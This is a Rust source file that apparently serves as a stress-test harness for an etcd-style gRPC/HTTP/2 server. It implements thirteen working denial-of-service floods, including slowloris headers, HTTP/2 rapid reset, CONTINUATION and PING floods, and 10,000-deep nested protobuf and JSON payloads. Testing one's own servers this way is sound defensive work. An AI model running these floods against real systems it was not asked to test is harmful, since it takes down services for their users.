//! What hostile clients send, byte by byte: no library would.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use rustix::process::setpriority_process;

/// The lowest priority there is.
const LOWEST_PRIORITY: i32 = 19;
/// How long whoever floods waits for a member that takes nothing.
const PATIENCE: Duration = Duration::from_millis(200);
/// Connections that one thread holds.
const CROWD: usize = 60;
/// The wait between two looks at a crowd.
const BEAT: Duration = Duration::from_millis(20);
/// The wait between two requests that are no flood, only nonsense.
const BREATH: Duration = Duration::from_millis(1);
/// Frames that are sent with one system call.
const BATCH: usize = 512;
/// Transactions in transactions, objects in objects.
const DEPTH: usize = 10_000;
/// What is said about the length of a value.
const HUGE_BYTES: u32 = 100 << 20;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Every call that takes one message.
const CALLS: &[&str] = &[
    "etcdserverpb.KV/Range",
    "etcdserverpb.KV/RangeStream",
    "etcdserverpb.KV/DeleteRange",
    "etcdserverpb.KV/Txn",
    "etcdserverpb.KV/Compact",
    "etcdserverpb.Watch/Watch",
    "etcdserverpb.Lease/LeaseGrant",
    "etcdserverpb.Lease/LeaseRevoke",
    "etcdserverpb.Lease/LeaseKeepAlive",
    "etcdserverpb.Lease/LeaseTimeToLive",
    "etcdserverpb.Lease/LeaseLeases",
    "etcdserverpb.Cluster/MemberAdd",
    "etcdserverpb.Cluster/MemberRemove",
    "etcdserverpb.Cluster/MemberUpdate",
    "etcdserverpb.Cluster/MemberPromote",
    "etcdserverpb.Maintenance/HashKV",
    "etcdserverpb.Maintenance/MoveLeader",
    "etcdserverpb.Maintenance/Downgrade",
    "etcdserverpb.Auth/UserGet",
    "etcdserverpb.Auth/RoleGet",
    "v3lockpb.Lock/Unlock",
    "v3electionpb.Election/Leader",
    "v3electionpb.Election/Resign",
    "grpc.health.v1.Health/Check",
    "nobody.Nothing/Never",
];

/// What one thread does until it is told to stop.
pub(crate) type Flood = fn(&Target);

/// All of them.
pub(crate) const FLOODS: &[(&str, Flood)] = &[
    ("connections that say nothing", silent),
    ("connections that come and go", passing),
    ("heads a byte at a time", slow),
    ("pings", pings),
    ("settings", settings),
    ("requests that are reset", resets),
    ("heads without an end", endless_heads),
    ("empty data", empty_data),
    ("half frames", half_frames),
    ("transactions 10,000 deep", deep),
    ("values of 100 MB", huge),
    ("numbers, kinds and texts that make no sense", nonsense),
    ("JSON 10,000 deep", deep_json),
];

/// Whom it is about.
pub(crate) struct Target {
    address: String,
    stop: AtomicBool,
    sent: AtomicU64,
}

impl Target {
    pub(crate) fn new(address: &str) -> Self {
        Self { address: address.to_owned(), stop: AtomicBool::new(false), sent: AtomicU64::new(0) }
    }

    /// Floods from this thread until [`stop`](Self::stop).
    pub(crate) fn attack(&self, flood: Flood) {
        // Of this thread only, as Linux has it.
        if let Err(error) = setpriority_process(None, LOWEST_PRIORITY) {
            println!("the priority stays as it is: {error}");
        }
        flood(self);
    }

    pub(crate) fn stop(&self) {
        self.stop.store(true, Ordering::Relaxed);
    }

    /// Frames, heads or connections so far.
    pub(crate) fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    fn goes_on(&self) -> bool {
        !self.stop.load(Ordering::Relaxed)
    }

    fn count(&self, number: usize) {
        self.sent.fetch_add(u64::try_from(number).unwrap_or(u64::MAX), Ordering::Relaxed);
    }

    /// A connection that neither side blocks for long.
    fn connect(&self) -> Option<TcpStream> {
        let stream = TcpStream::connect(&self.address).ok()?;
        stream.set_write_timeout(Some(PATIENCE)).ok()?;
        stream.set_nonblocking(true).ok()?;
        Some(stream)
    }

    /// Sends what `next` gives, on a new HTTP/2 connection whenever the member ends one. `next` is told how much was sent
    /// on this one, and answers none when that is enough.
    fn speak_http2(&self, mut next: impl FnMut(u32) -> Option<(Vec<u8>, usize)>) {
        while self.goes_on() {
            let Some(mut stream) = self.connect() else { continue };
            let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
            hello.extend(frame(SETTINGS, 0, 0, &[]));
            let mut open = self.push(&mut stream, &hello);
            let mut step = 0;
            while open && self.goes_on() {
                let Some((bytes, frames)) = next(step) else { break };
                open = self.push(&mut stream, &bytes);
                self.count(frames);
                step += 1;
            }
        }
    }

    /// Sends bytes, and reads what comes back as whoever wants to go on must; false once the connection has ended.
    fn push(&self, stream: &mut TcpStream, mut bytes: &[u8]) -> bool {
        let mut answers = [0; 64 << 10];
        let mut moved = Instant::now();
        while !bytes.is_empty() {
            match stream.write(bytes) {
                Ok(count) => {
                    bytes = &bytes[count..];
                    moved = Instant::now();
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => {
                    if moved.elapsed() > PATIENCE || !self.goes_on() {
                        return false;
                    }
                    std::thread::yield_now();
                }
                Err(_) => return false,
            }
            match stream.read(&mut answers) {
                Ok(0) => return false,
                Ok(_) => {}
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => return false,
            }
        }
        true
    }
}

/// A frame of HTTP/2 (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut out = length[1..].to_vec();
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
    out
}

/// The head of a gRPC call, every text as it is (RFC 7541 §6.2.2).
fn head(call: &str) -> Vec<u8> {
    let text = |out: &mut Vec<u8>, text: &str| {
        out.push(u8::try_from(text.len()).unwrap_or(0));
        out.extend(text.as_bytes());
    };
    // `:method: POST` and `:scheme: http`, then `:path`, `:authority`, `content-type` and `te`.
    let mut out = vec![0x83, 0x86, 0x04];
    text(&mut out, &format!("/{call}"));
    out.push(0x01);
    text(&mut out, "x");
    out.extend([0x0f, 0x10]);
    text(&mut out, "application/grpc");
    out.push(0x00);
    text(&mut out, "te");
    text(&mut out, "trailers");
    out
}

/// The stream of a connection's `number`th call.
const fn stream_of(number: u32) -> u32 {
    number * 2 + 1
}

/// A whole call with one message.
fn call(number: u32, path: &str, message: &[u8]) -> Vec<u8> {
    let stream = stream_of(number);
    let mut out = frame(HEADERS, END_HEADERS, stream, &head(path));
    let mut body = vec![0];
    body.extend(u32::try_from(message.len()).unwrap_or(0).to_be_bytes());
    body.extend(message);
    let pieces: Vec<_> = body.chunks(16 << 10).collect();
    for (place, piece) in pieces.iter().enumerate() {
        let flags = if place + 1 == pieces.len() { END_STREAM } else { 0 };
        out.extend(frame(DATA, flags, stream, piece));
    }
    out
}

/// A field that holds bytes, as protobuf writes it.
fn field(number: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![number << 3 | 2];
    prost::encoding::encode_varint(u64::try_from(content.len()).unwrap_or(0), &mut out);
    out.extend(content);
    out
}

fn silent(target: &Target) {
    let mut crowd: Vec<TcpStream> = Vec::new();
    while target.goes_on() {
        crowd.retain_mut(|stream| {
            let mut byte = [0];
            matches!(stream.read(&mut byte), Err(error) if error.kind() == ErrorKind::WouldBlock)
        });
        while crowd.len() < CROWD
            && let Some(stream) = target.connect()
        {
            crowd.push(stream);
            target.count(1);
        }
        std::thread::sleep(BEAT);
    }
}

fn passing(target: &Target) {
    while target.goes_on() {
        drop(target.connect());
        target.count(1);
    }
}

fn slow(target: &Target) {
    let head = b"POST /v3/kv/range HTTP/1.1\r\nHost: x\r\nX-Long: ";
    let mut crowd: Vec<(TcpStream, usize)> = Vec::new();
    while target.goes_on() {
        while crowd.len() < CROWD
            && let Some(stream) = target.connect()
        {
            crowd.push((stream, 0));
        }
        crowd.retain_mut(|(stream, at)| {
            let byte = head.get(*at).copied().unwrap_or(b'x');
            *at += 1;
            target.count(1);
            target.push(stream, &[byte])
        });
        std::thread::sleep(BEAT);
    }
}

fn pings(target: &Target) {
    let batch = frame(PING, 0, 0, &[7; 8]).repeat(BATCH);
    target.speak_http2(|_| Some((batch.clone(), BATCH)));
}

fn settings(target: &Target) {
    // MAX_CONCURRENT_STREAMS, as many as ever.
    let batch = frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 1, 0]).repeat(BATCH);
    target.speak_http2(|_| Some((batch.clone(), BATCH)));
}

fn resets(target: &Target) {
    let head = head("etcdserverpb.KV/Range");
    target.speak_http2(|step| {
        let first = step * 64;
        let one = |number: u32| {
            let stream = stream_of(number);
            let mut out = frame(HEADERS, END_HEADERS, stream, &head);
            out.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
            out
        };
        (first < 1 << 30).then(|| ((first..first + 64).flat_map(one).collect(), 128))
    });
}

fn endless_heads(target: &Target) {
    let mut more = vec![0x00, 1, b'a', 100];
    more.extend([b'x'; 100]);
    let batch = frame(CONTINUATION, 0, 1, &more.repeat(100)).repeat(4);
    target.speak_http2(|step| {
        let begin = frame(HEADERS, 0, 1, &head("etcdserverpb.KV/Range"));
        Some((if step == 0 { begin } else { batch.clone() }, 4))
    });
}

fn empty_data(target: &Target) {
    let batch = frame(DATA, 0, 1, &[]).repeat(BATCH);
    target.speak_http2(|step| {
        let begin = frame(HEADERS, END_HEADERS, 1, &head("etcdserverpb.KV/Put"));
        Some((if step == 0 { begin } else { batch.clone() }, BATCH))
    });
}

fn half_frames(target: &Target) {
    let whole = call(0, "etcdserverpb.KV/Put", &field(1, &[7; 4000]));
    let mut cut = 0;
    target.speak_http2(|step| {
        cut = (cut + 37) % whole.len();
        (step == 0).then(|| (whole[..cut].to_vec(), 1))
    });
}

fn deep(target: &Target) {
    let mut nested = Vec::new();
    for _ in 0..DEPTH {
        // RequestOp.request_txn within TxnRequest.success.
        nested = field(2, &field(4, &nested));
    }
    target.speak_http2(|step| Some((call(step, "etcdserverpb.KV/Txn", &nested), 1)));
}

fn huge(target: &Target) {
    let mut begins = vec![0];
    begins.extend(HUGE_BYTES.to_be_bytes());
    target.speak_http2(|step| {
        let stream = stream_of(step);
        let mut out = frame(HEADERS, END_HEADERS, stream, &head("etcdserverpb.KV/Put"));
        out.extend(frame(DATA, 0, stream, &begins));
        out.extend(frame(DATA, 0, stream, &[0x0a; 16 << 10]).repeat(8));
        Some((out, 10))
    });
}

fn nonsense(target: &Target) {
    let mut dice = Dice(0x5eed);
    target.speak_http2(|step| {
        let path = CALLS[dice.below(CALLS.len())];
        let message = dice.message(3);
        // Half of them make sense all the same, and are work as anybody's is.
        std::thread::sleep(BREATH);
        Some((call(step, path, &message), 2))
    });
}

fn deep_json(target: &Target) {
    let body = format!("{}{}", r#"{"success":[{"request_txn":"#.repeat(DEPTH), "}]}".repeat(DEPTH));
    let request = format!(
        "POST /v3/kv/txn HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    while target.goes_on() {
        let Some(mut stream) = target.connect() else { continue };
        while target.goes_on() && target.push(&mut stream, request.as_bytes()) {
            target.count(1);
        }
    }
}

/// Draws; the same each time.
struct Dice(u64);

impl Dice {
    fn draw(&mut self) -> u64 {
        // SplitMix64.
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    fn below(&mut self, limit: usize) -> usize {
        let drawn = self.draw() % u64::try_from(limit.max(1)).unwrap_or(1);
        usize::try_from(drawn).unwrap_or(0)
    }

    /// Fields of every kind: numbers at the ends of what there is, kinds that do not exist, texts that are none, messages in
    /// messages, ranges of all shapes.
    fn message(&mut self, depth: usize) -> Vec<u8> {
        let mut out = Vec::new();
        for _ in 0..self.below(6) {
            let number = u8::try_from(1 + self.below(14)).unwrap_or(1);
            match self.below(3) {
                0 => {
                    const NUMBERS: [u64; 6] = [0, 1, 99, 1 << 63, u64::MAX, u64::MAX >> 1];
                    out.push(number << 3);
                    prost::encoding::encode_varint(NUMBERS[self.below(NUMBERS.len())], &mut out);
                }
                1 => {
                    const TEXTS: [&[u8]; 6] = [b"", b"a", b"z", b"\0", b"\xff\xfe", b"\xc0\x80"];
                    out.extend(field(number, TEXTS[self.below(TEXTS.len())]));
                }
                _ if depth > 0 => {
                    let inner = self.message(depth - 1);
                    out.extend(field(number, &inner));
                }
                _ => out.push(u8::try_from(self.below(256)).unwrap_or(0)),
            }
        }
        out
    }
}
